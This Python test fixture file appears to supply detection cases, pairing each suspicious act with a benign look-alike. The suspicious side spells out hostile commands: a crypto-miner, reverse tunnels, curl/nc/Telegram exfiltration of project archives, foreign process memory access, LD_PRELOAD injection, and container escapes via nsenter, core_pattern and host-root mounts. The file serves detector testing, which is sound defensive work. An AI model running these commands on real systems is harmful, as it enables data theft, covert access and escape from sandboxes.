"""Mining, tunnels, uploads, other processes and the container, each with an ordinary act that resembles it."""

from __future__ import annotations

from support.behaviours.acts import AUDIT, CALL, KERNEL, NETWORK, PROCESS, Row, called, connected, ran

ABUSE: list[Row] = [
    ("miner", PROCESS, ran("/home/u/x -o stratum+tcp://pool:3333 -u w -p x"), ran("grep -r stratum+tcp:// .")),
    ("miner", PROCESS, ran("/bin/sh /tmp/xmrig -o pool:3333", "/bin/dash"), ran("pip download xmrig")),
    ("pool_port", NETWORK, connected("x", "203.0.113.9", 3333), connected("dask-worker", "127.0.0.1", 3333)),
    ("tunnel_program", PROCESS, ran("/home/u/ngrok http 8888"), ran("/home/u/ngrok version")),
    (
        "tunnel_program",
        PROCESS,
        ran("/bin/sh ./chisel client https://relay.example R:8888:127.0.0.1:8888"),
        ran("/bin/bash chisel build.log"),
    ),
    ("tunnel_program", PROCESS, ran("/home/u/x client 203.0.113.9:80 R:1080:socks"), ran("cat cloudflared")),
    ("tunnel_ssh", PROCESS, ran("ssh -i k -fNR 8080:localhost:80 host"), ran("ssh host ls -R folder")),
    ("tunnel_ssh", PROCESS, ran("ssh -D1080 host"), ran("ssh -o SendEnv=GIT_PROTOCOL git@host git-upload-pack x")),
    (
        "exfiltration_upload",
        PROCESS,
        ran("curl -sT - http://x/project.tar"),
        ran("curl -H Content-Type:application/json -d {} http://x/api"),
    ),
    (
        "exfiltration_upload",
        PROCESS,
        ran("nc 203.0.113.9 9", InputFrom=["/bin/tar"]),
        ran("gzip", InputFrom=["/bin/tar"]),
    ),
    (
        "exfiltration_upload",
        PROCESS,
        ran("tar cf - project", OutputTo=["/usr/bin/nc.openbsd"]),
        ran("tar cf - project", OutputTo=["/bin/gzip"]),
    ),
    (
        "exfiltration_paste",
        PROCESS,
        ran("curl -F document=@x https://api.telegram.org/bot1/sendDocument"),
        ran("curl -O https://transfer.sh/x"),
    ),
    ("bucket_copy", PROCESS, ran("aws s3 cp a.csv s3://b/a.csv"), ran("aws s3 cp s3://b/a.csv a.csv")),
    (
        "process_memory_read",
        CALL,
        called("process_vm_readv", TargetProcessId="77", TargetRelation="foreign"),
        called("process_vm_readv", TargetProcessId="77", TargetRelation="child"),
    ),
    (
        "process_memory_written",
        CALL,
        called("process_vm_writev", TargetProcessId="77", TargetRelation="foreign"),
        called("process_vm_writev", TargetProcessId="77", TargetRelation="self"),
    ),
    (
        "process_touched_unknown",
        CALL,
        called("ptrace", "strace ls", Request="seize", TargetProcessId="77", TargetRelation="unknown"),
        called("ptrace", "strace ls", Request="", TargetProcessId="77", TargetRelation="unknown"),
    ),
    (
        "process_traced",
        CALL,
        called("ptrace", Request="attach", TargetProcessId="77", TargetRelation="foreign"),
        called("ptrace", "strace ls", Request="seize", TargetProcessId="77", TargetRelation="child"),
    ),
    (
        "process_memory_in_kernel",
        AUDIT,
        {**ran(KERNEL), "AuditEvent": "open", "AuditPath": "/proc/77/mem"},
        {**ran(KERNEL), "AuditEvent": "open", "AuditPath": "/proc/self/mem"},
    ),
    (
        "preload_from_writable_place",
        PROCESS,
        ran("ls", Preloads="LD_PRELOAD=/tmp/x.so"),
        ran("python3 train.py", Preloads="LD_PRELOAD=/opt/conda/lib/libtcmalloc.so.4"),
    ),
    (
        "preload_by_audit_from_home",
        PROCESS,
        ran("ls", Preloads="LD_AUDIT=/home/u/x.so"),
        ran("ls", Preloads="LD_PRELOAD=/home/u/x.so"),
    ),
    ("preload_by_audit", PROCESS, ran("ls", Preloads="LD_AUDIT=/opt/x.so"), ran("ls", Preloads="LD_PRELOAD=/opt/x.so")),
    (
        "preload_from_home",
        PROCESS,
        ran("ls", Preloads="LD_PRELOAD=/home/u/x.so"),
        ran("ls", Preloads="LD_PRELOAD=/usr/lib/x.so"),
    ),
    (
        "masquerading_service",
        PROCESS,
        ran("/home/u/work/.x11/sshd -D", "/home/u/work/.x11/sshd"),
        ran("dbus-daemon --session", "/home/u/.conda/envs/x/bin/dbus-daemon"),
    ),
    ("masquerading_service", PROCESS, ran("kworker/1:2", "/dev/shm/kworker"), ran("sshd -D", "/usr/sbin/sshd")),
    (
        "script_from_descriptor",
        PROCESS,
        ran("/bin/sh /proc/812/fd/4"),
        ran("bash /dev/fd/63"),
    ),
    (
        "times_taken_from_system_file",
        PROCESS,
        ran("touch -r /bin/ls /home/u/.helper"),
        ran("touch -r results.csv copy.csv"),
    ),
    ("masquerading_kernel_thread", PROCESS, ran("[kthreadd] 3", "/bin/sleep"), {"CommandLine": "[kthreadd]"}),
    (
        "container_socket",
        CALL,
        called("connect", "curl --unix-socket x", UnixPath="/var/run/docker.sock"),
        called("connect", "docker ps", UnixPath="/var/run/docker.sock"),
    ),
    (
        "container_tool_escapes",
        PROCESS,
        ran("docker run --rm -v /:/host alpine"),
        ran("docker run --rm -v /home/u/data:/data --gpus all train"),
    ),
    ("container_tool", PROCESS, ran("docker inspect x"), ran("ls docker")),
    (
        "escape_attempt",
        CALL,
        called("mount", Source="cgroup", Target="/tmp/c", FileSystem="cgroup"),
        called("mount", "fusermount3 x", Source="x", Target="/home/u/b", FileSystem="fuse"),
    ),
    ("escape_by_command", PROCESS, ran("nsenter -t 1 -m sh"), ran("nsenter --target 4711 -n ss")),
    (
        "escape_by_command",
        PROCESS,
        ran("bash -c echo '|/tmp/x' > /proc/sys/kernel/core_pattern"),
        ran("cat /proc/sys/kernel/core_pattern"),
    ),
    ("namespace_made", CALL, called("unshare", Flags="0x10020000"), called("unshare", Flags="0x20000")),
]
